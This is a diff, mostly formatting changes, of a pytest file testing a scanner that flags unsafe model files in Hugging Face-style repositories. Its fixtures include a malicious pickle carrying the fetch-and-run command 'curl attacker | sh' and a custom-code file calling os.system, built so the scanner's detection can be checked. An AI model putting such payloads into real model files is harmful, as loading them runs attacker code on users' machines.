@@ -10,15 +10,14 @@ import os
 
 import numpy as np
 import pytest
-from safetensors.numpy import save
-
-from source_helpers import codes, hf_config, hf_scan, outcome
 from hf_server import HubFile, HubServer
 from model_fixtures import malicious_pickle, torch_zip
+from safetensors.numpy import save
+from source_helpers import codes, hf_config, hf_scan, outcome
+
 from modelsec.engine import Engine
 from modelsec.policy import Outcome
 from modelsec.sources import ScanOptions, parse_model_uri, scan_model
-
 
 
 def safetensors_bytes(mib: int) -> bytes:
@@ -48,7 +47,10 @@ def test_scan_records_commit_metadata_and_lfs_fingerprints(hub: HubServer, model
     assert not report.all_incompletes()
     meta = scanned.metadata
     assert (meta.model_id, meta.author, meta.license, meta.verified_organization) == (
-        "acme/model", "acme", "apache-2.0", True,
+        "acme/model",
+        "acme",
+        "apache-2.0",
+        True,
     )
     assert meta.last_modified is not None
     by_path = {f.path.rsplit("/", 1)[-1]: f for f in report.files}
@@ -117,10 +119,13 @@ def test_torch_zip_reads_directory_and_pickle_not_storages(hub: HubServer) -> No
 
 def test_malicious_pickle_and_torch_zip_are_found(hub: HubServer) -> None:
     evil = malicious_pickle("curl attacker | sh")
-    hub.add_repo("mallory/evil", {
-        "model.pkl": evil,
-        "pytorch_model.bin": torch_zip({"0": bytes(4096)}, pickle_bytes=evil),
-    })
+    hub.add_repo(
+        "mallory/evil",
+        {
+            "model.pkl": evil,
+            "pytorch_model.bin": torch_zip({"0": bytes(4096)}, pickle_bytes=evil),
+        },
+    )
     scanned = hf_scan(hub, "hf://mallory/evil")
     findings = scanned.report.all_findings()
     flagged = {f.file.split("!")[0].rsplit("/", 1)[-1] for f in findings if f.rule == "LoadTimeCodeExecution"}
@@ -257,14 +262,18 @@ def test_invalid_config_key_is_an_error_naming_the_key(hub: HubServer) -> None:
 
 def test_bytes_not_matching_lfs_sha256_are_an_error(hub: HubServer) -> None:
     genuine = malicious_pickle("true")
-    hub.add_repo("acme/tampered", {"model.pkl": HubFile("model.pkl", data=genuine, served=genuine[:-2] + b"X.")})
+    hub.add_repo(
+        "acme/tampered", {"model.pkl": HubFile("model.pkl", data=genuine, served=genuine[:-2] + b"X.")}
+    )
     scanned = hf_scan(hub, "hf://acme/tampered")
     assert "MS-SRC-009" in codes(scanned)
     assert "SHA-256" in scanned.report.files[0].incompletes[-1].reason
     assert outcome(scanned) == Outcome.ERROR
 
 
-def test_server_without_range_support_downloads_whole_and_cleans_up(hub: HubServer, tmp_path: os.PathLike[str]) -> None:
+def test_server_without_range_support_downloads_whole_and_cleans_up(
+    hub: HubServer, tmp_path: os.PathLike[str]
+) -> None:
     data = safetensors_bytes(2)
     hub.add_repo("acme/norange", {"model.safetensors": data})
     hub.ignore_range = True
@@ -316,7 +325,10 @@ def test_cli_scans_hf_reference(hub: HubServer, model: dict[str, bytes], tmp_pat
     env = {**os.environ, "HF_ENDPOINT": hub.url}
     run = subprocess.run(
         [sys.executable, "-m", "modelsec.cli.main", "scan", "hf://acme/model", "--format", "json"],
-        capture_output=True, text=True, env=env, timeout=120,
+        capture_output=True,
+        text=True,
+        env=env,
+        timeout=120,
     )
     assert run.returncode in (0, 1), run.stderr
     assert hub.repos["acme/model"].refs["main"] in run.stdout
@@ -338,14 +350,17 @@ def test_layout_checks_run_on_remote_repositories(hub: HubServer) -> None:
     without downloading the weights."""
     config = {"architectures": ["Custom"], "auto_map": {"AutoModel": "modeling_custom.CustomModel"}}
     weights = safetensors_bytes(24)
-    hub.add_repo("mallory/custom-code", {
-        "config.json": json.dumps(config).encode(),
-        "modeling_custom.py": b"import os\nos.system('id')\n",
-        "model.safetensors": weights,
-        "model.safetensors.index.json": json.dumps(
-            {"weight_map": {"a": "model.safetensors", "b": "model-missing.safetensors"}}
-        ).encode(),
-    })
+    hub.add_repo(
+        "mallory/custom-code",
+        {
+            "config.json": json.dumps(config).encode(),
+            "modeling_custom.py": b"import os\nos.system('id')\n",
+            "model.safetensors": weights,
+            "model.safetensors.index.json": json.dumps(
+                {"weight_map": {"a": "model.safetensors", "b": "model-missing.safetensors"}}
+            ).encode(),
+        },
+    )
     scanned = hf_scan(hub, "hf://mallory/custom-code")
     report = scanned.report
     assert "hf-repo" in {r.format for r in report.layout_formats}
@@ -377,7 +392,9 @@ def test_small_lfs_weights_are_not_downloaded_for_layout_checks(hub: HubServer) 
     assert hub.bytes_sent("model.safetensors") < len(weights) // 4
 
 
-def test_too_many_files_and_unexpected_errors_are_errors(hub: HubServer, model: dict[str, bytes], monkeypatch: pytest.MonkeyPatch) -> None:
+def test_too_many_files_and_unexpected_errors_are_errors(
+    hub: HubServer, model: dict[str, bytes], monkeypatch: pytest.MonkeyPatch
+) -> None:
     from modelsec.sources import huggingface, remote_scan
 
     monkeypatch.setattr(remote_scan, "MAX_FILES", 2)
